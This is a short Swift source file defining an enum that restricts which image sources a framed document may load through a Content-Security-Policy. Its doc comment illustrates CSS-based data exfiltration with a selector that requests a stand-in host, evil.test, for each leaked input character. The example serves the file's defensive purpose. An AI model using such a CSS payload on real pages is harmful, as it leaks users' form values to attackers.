/// The images of other hosts that a document in its frame may load.
///
/// An image is a request, so a document that loads them can send out what it holds: a style such as
/// `input[value^="a"] { background: url(https://evil.test/a) }` asks for another address with each value.
package enum PageImages: String, Sendable, CaseIterable {
  case none
  /// Those of any host, by `https:`. The mirror itself speaks `http:`, so no image is a request to it.
  case https

  /// The sources of a `Content-Security-Policy`. Images that are part of the document are shown in any case.
  var sources: String {
    switch self {
    case .none: "data:"
    case .https: "https: data:"
    }
  }
}
